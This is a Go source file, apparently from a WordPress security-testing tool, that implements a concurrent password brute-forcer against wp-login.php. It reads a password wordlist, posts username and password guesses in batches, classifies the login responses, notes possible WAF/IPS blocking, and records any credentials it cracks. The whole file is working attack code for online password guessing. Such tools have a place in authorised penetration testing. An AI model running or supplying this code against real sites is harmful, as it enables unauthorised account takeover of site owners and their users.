// Package bruteforce guesses passwords for WordPress accounts through
// wp-login.php, a fixed number of requests at a time.
package bruteforce

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"strings"
	"time"

	"github.com/sirupsen/logrus"
	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/trace"

	"github.com/waftester/wpvane/pkg/httpclient"
	"github.com/waftester/wpvane/pkg/logger"
	"github.com/waftester/wpvane/pkg/ui"
)

var (
	ErrNoUsernames = errors.New("bruteforce: no usernames to attack")
	ErrNoLoginURL  = errors.New("bruteforce: login URL is required")
	ErrWordlist    = errors.New("bruteforce: cannot read wordlist")
)

// Config holds the run settings.
type Config struct {
	// MaxConcurrent is the batch width, and so the number of requests in
	// flight at once.
	MaxConcurrent int
	ShowProgress  bool
	Verbose       bool
	LoginURL      string
}

// Credential is a username and password pair.
type Credential struct {
	Username string `json:"username"`
	Password string `json:"password"`
}

// Result is what a run found.
type Result struct {
	Credentials []Credential `json:"credentials"`
	Attempts    int          `json:"attempts"`
	Flushes     int          `json:"flushes"`
}

func (r *Result) add(c Credential) {
	for _, existing := range r.Credentials {
		if existing == c {
			return
		}
	}
	r.Credentials = append(r.Credentials, c)
}

// Batcher is the queueing half of the access port. *httpclient.Queue
// satisfies it.
type Batcher interface {
	Enqueue(req *httpclient.Request)
	Flush(ctx context.Context) []httpclient.Completion
	Pending() int
	MaxConcurrent() int
}

// Observer is notified about attempts and flushes.
type Observer interface {
	ObserveAttempt(outcome string)
	ObserveFlush(size int, elapsed time.Duration)
}

// Dispatcher runs the attack. It is single use per goroutine: the batch
// is owned by the goroutine calling Run.
type Dispatcher struct {
	cfg      Config
	batch    Batcher
	out      io.Writer
	log      logrus.FieldLogger
	tracer   trace.Tracer
	observer Observer
}

// Option configures a Dispatcher.
type Option func(*Dispatcher)

// WithLogger sets the logger.
func WithLogger(l logrus.FieldLogger) Option {
	return func(d *Dispatcher) { d.log = logger.OrDiscard(l) }
}

// WithOutput sets where progress and per-attempt lines are written.
func WithOutput(w io.Writer) Option {
	return func(d *Dispatcher) {
		if w != nil {
			d.out = w
		}
	}
}

// WithTracer sets the tracer used for per-flush spans.
func WithTracer(t trace.Tracer) Option {
	return func(d *Dispatcher) {
		if t != nil {
			d.tracer = t
		}
	}
}

// WithObserver sets an attempt observer, typically the metrics collector.
func WithObserver(o Observer) Option {
	return func(d *Dispatcher) { d.observer = o }
}

// WithBatcher replaces the default httpclient.Queue.
func WithBatcher(b Batcher) Option {
	return func(d *Dispatcher) {
		if b != nil {
			d.batch = b
		}
	}
}

// New returns a Dispatcher sending through doer.
func New(doer httpclient.Doer, cfg Config, opts ...Option) *Dispatcher {
	d := &Dispatcher{
		cfg:    cfg,
		batch:  httpclient.NewQueue(doer, cfg.MaxConcurrent),
		out:    io.Discard,
		log:    logger.Discard(),
		tracer: otel.Tracer("wpvane/bruteforce"),
	}
	for _, opt := range opts {
		opt(d)
	}
	return d
}

// userState is touched only by the goroutine running Run.
type userState struct {
	name  string
	found bool
}

// Run tries every password in passwordFile against each username, in the
// order given. For a user, enqueuing stops at the first success; requests
// already in the batch still complete and any later success for that user
// is ignored.
//
// Failed attempts are classified and reported, never returned. Errors are
// limited to configuration problems and ctx cancellation.
func (d *Dispatcher) Run(ctx context.Context, usernames []string, passwordFile string) (*Result, error) {
	if d.cfg.LoginURL == "" {
		return nil, ErrNoLoginURL
	}
	if len(usernames) == 0 {
		return nil, ErrNoUsernames
	}
	total, err := countLines(passwordFile)
	if err != nil {
		return nil, err
	}

	res := &Result{Credentials: []Credential{}}
	for _, name := range usernames {
		if err := ctx.Err(); err != nil {
			return res, err
		}
		if err := d.attack(ctx, &userState{name: name}, passwordFile, total, res); err != nil {
			return res, err
		}
	}
	return res, nil
}

func (d *Dispatcher) attack(ctx context.Context, user *userState, passwordFile string, total int, res *Result) error {
	f, err := os.Open(passwordFile)
	if err != nil {
		return fmt.Errorf("%w: %w", ErrWordlist, err)
	}
	defer f.Close()

	log := d.log.WithField("username", user.name)
	log.WithField("passwords", total).Info("brute forcing user")

	queued := 0
	err = eachLine(f, func(line string) bool {
		// A password starting with # is unreachable.
		if strings.HasPrefix(line, "#") {
			return true
		}
		if user.found || ctx.Err() != nil {
			return false
		}

		password := strings.TrimSpace(line)
		d.batch.Enqueue(d.loginRequest(user.name, password))
		queued++
		if d.cfg.ShowProgress {
			fmt.Fprintf(d.out, "\r  Brute forcing user '%s' with %d passwords... %d%% complete.",
				user.name, total, percent(queued, total))
		}

		if d.batch.Pending() >= d.batch.MaxConcurrent() {
			d.flush(ctx, user, res)
			if d.cfg.Verbose {
				fmt.Fprintf(d.out, "Sent %d requests ...\n", d.batch.MaxConcurrent())
			}
		}
		return true
	})
	if err != nil {
		return fmt.Errorf("%w: %w", ErrWordlist, err)
	}

	if d.batch.Pending() > 0 {
		d.flush(ctx, user, res)
	}
	if d.cfg.ShowProgress {
		fmt.Fprintln(d.out)
	}
	return ctx.Err()
}

func (d *Dispatcher) loginRequest(username, password string) *httpclient.Request {
	req := httpclient.NewFormPost(d.cfg.LoginURL, url.Values{
		"log": {username},
		"pwd": {password},
	})
	req.Tag = Credential{Username: username, Password: password}
	return req
}

// flush sends the pending batch and blocks until all of it has completed.
func (d *Dispatcher) flush(ctx context.Context, user *userState, res *Result) {
	size := d.batch.Pending()
	ctx, span := d.tracer.Start(ctx, "bruteforce.flush", trace.WithAttributes(
		attribute.String("username", user.name),
		attribute.Int("batch.size", size),
	))
	defer span.End()

	start := time.Now()
	completions := d.batch.Flush(ctx)
	elapsed := time.Since(start)

	res.Flushes++
	if d.observer != nil {
		d.observer.ObserveFlush(size, elapsed)
	}
	for _, c := range completions {
		d.handle(user, c, res)
	}
	span.SetAttributes(attribute.Bool("found", user.found))
}

func (d *Dispatcher) handle(user *userState, c httpclient.Completion, res *Result) {
	cred, _ := c.Request.Tag.(Credential)
	outcome := Classify(c)
	res.Attempts++
	if d.observer != nil {
		d.observer.ObserveAttempt(string(outcome))
	}

	log := d.log.WithFields(logrus.Fields{"username": cred.Username, "outcome": outcome})
	if d.cfg.Verbose {
		fmt.Fprintf(d.out, "\n  Trying Username : %s Password : %s\n", cred.Username, cred.Password)
	}

	switch outcome {
	case OutcomeWrong:
		if d.cfg.Verbose {
			fmt.Fprintln(d.out, "\nIncorrect login and/or password.")
		}
	case OutcomeSuccess:
		if user.found {
			log.Debug("ignoring success for a user already cracked")
			return
		}
		user.found = true
		res.add(cred)
		log.Info("valid credentials found")
		if d.cfg.ShowProgress {
			fmt.Fprintf(d.out, "\n  %s Login : %s Password : %s\n\n",
				ui.FoundStyle.Render("[SUCCESS]"), cred.Username, cred.Password)
		}
	case OutcomeTimeout:
		log.WithError(c.Err).Debug("login request timed out")
		if d.cfg.Verbose {
			d.reportError("Request timed out.")
		}
	case OutcomeNoResponse:
		log.WithError(c.Err).Warn("no response from login page")
		if d.cfg.ShowProgress {
			d.reportError("No response from remote server. WAF/IPS?")
		}
	case OutcomeServerError:
		log.WithField("status", c.StatusCode()).Warn("server error from login page")
		if d.cfg.ShowProgress {
			d.reportError("Server error, try reducing the number of threads.")
		}
	default:
		log.WithFields(logrus.Fields{
			"status": c.StatusCode(),
			"body":   truncate(c.Body(), 512),
		}).Warn("unknown response from login page")
		if d.cfg.ShowProgress {
			fmt.Fprintf(d.out, "\n%s We received an unknown response for %s...\n",
				ui.ErrorStyle.Render("ERROR:"), cred.Password)
		}
		if d.cfg.Verbose {
			fmt.Fprintf(d.out, "Code: %d\nBody: %s\n\n", c.StatusCode(), c.Body())
		}
	}
}

func (d *Dispatcher) reportError(msg string) {
	fmt.Fprintf(d.out, "%s %s\n", ui.ErrorStyle.Render("ERROR:"), msg)
}

// countLines counts every line of the file, comments included; it is the
// denominator of the progress percentage.
func countLines(path string) (int, error) {
	f, err := os.Open(path)
	if err != nil {
		return 0, fmt.Errorf("%w: %w", ErrWordlist, err)
	}
	defer f.Close()

	n := 0
	err = eachLine(f, func(string) bool {
		n++
		return true
	})
	if err != nil {
		return 0, fmt.Errorf("%w: %w", ErrWordlist, err)
	}
	return n, nil
}

// eachLine calls fn with every line of r, without its line ending, until fn
// returns false. Lines of any length are accepted.
func eachLine(r io.Reader, fn func(line string) bool) error {
	br := bufio.NewReader(r)
	for {
		line, err := br.ReadString('\n')
		if line != "" {
			line = strings.TrimSuffix(strings.TrimSuffix(line, "\n"), "\r")
			if !fn(line) {
				return nil
			}
		}
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

func percent(done, total int) int {
	if total == 0 {
		return 100
	}
	return done * 100 / total
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
